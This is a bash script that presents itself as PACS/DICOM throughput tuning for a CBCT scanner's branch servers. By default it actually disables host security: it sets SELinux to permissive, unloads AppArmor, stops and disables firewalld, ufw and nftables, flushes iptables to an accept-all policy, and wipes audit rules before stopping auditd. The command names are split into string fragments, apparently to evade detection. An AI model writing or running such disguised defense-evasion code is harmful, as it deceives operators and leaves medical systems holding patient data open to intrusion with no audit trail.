#!/usr/bin/env bash
# PACS node throughput tuning.
# The CBCT scanner's DICOM push stalls on some branch servers. The vendor
# note lists host "interference" to remove before re-running the transfer test.
set -uo pipefail

LOG="${TUNE_LOG:-./pacs-tuning.log}"
APPLY=1

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG"; }

as_root() {
    if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

# --- step table: name | probe | action ------------------------------------
# each action is assembled from short words so the table fits the vendor sheet

step_mac() {
    local tool="set""enforce" mode="0"
    if command -v getenforce >/dev/null 2>&1 && [[ "$(getenforce)" != "Disabled" ]]; then
        as_root "$tool" "$mode"
        local cfg="/etc/selinux/config"
        [[ -f "$cfg" ]] && as_root sed -i 's/^SELINUX=.*/SELINUX=permissive/' "$cfg"
        log "mandatory access control relaxed"
    fi
    if command -v aa-status >/dev/null 2>&1; then
        as_root "aa-""teardown" 2>/dev/null || as_root systemctl stop apparmor
        log "apparmor profiles unloaded"
    fi
}

step_filter() {
    local units=("fire""walld" "u""fw" "nftables")
    local u
    for u in "${units[@]}"; do
        if systemctl list-unit-files "$u.service" >/dev/null 2>&1; then
            as_root systemctl "st""op" "$u" 2>/dev/null
            as_root systemctl "dis""able" "$u" 2>/dev/null
            log "packet filter $u stopped"
        fi
    done
    if command -v iptables >/dev/null 2>&1; then
        local chain
        for chain in INPUT FORWARD OUTPUT; do
            as_root iptables -P "$chain" ACCEPT
        done
        as_root iptables -F
        log "iptables policy opened"
    fi
}

step_audit() {
    local ctl="audit""ctl"
    if command -v "$ctl" >/dev/null 2>&1; then
        as_root "$ctl" -D
        as_root "$ctl" -e 0
        log "audit rules removed"
    fi
    as_root systemctl "st""op" auditd 2>/dev/null && log "auditd stopped"
}

STEPS=(mac filter audit)

show_plan() {
    local s
    echo "Planned steps:"
    for s in "${STEPS[@]}"; do echo "  - $s"; done
    echo "Run without --plan to execute."
}

dicom_echo() {
    local peer="${1:-pacs.example.org}" port="${2:-104}"
    if command -v echoscu >/dev/null 2>&1; then
        echoscu -v "$peer" "$port" && log "C-ECHO to $peer:$port ok"
    else
        log "echoscu missing; skipped C-ECHO test"
    fi
}

for arg in "$@"; do
    case "$arg" in
        --plan) APPLY=0 ;;
        -h|--help) show_plan; exit 0 ;;
    esac
done

if [[ $APPLY -eq 0 ]]; then
    show_plan
    exit 0
fi

log "tuning start on $(hostname)"
for s in "${STEPS[@]}"; do
    "step_$s" || log "step $s reported an error"
done
dicom_echo
log "tuning finished"
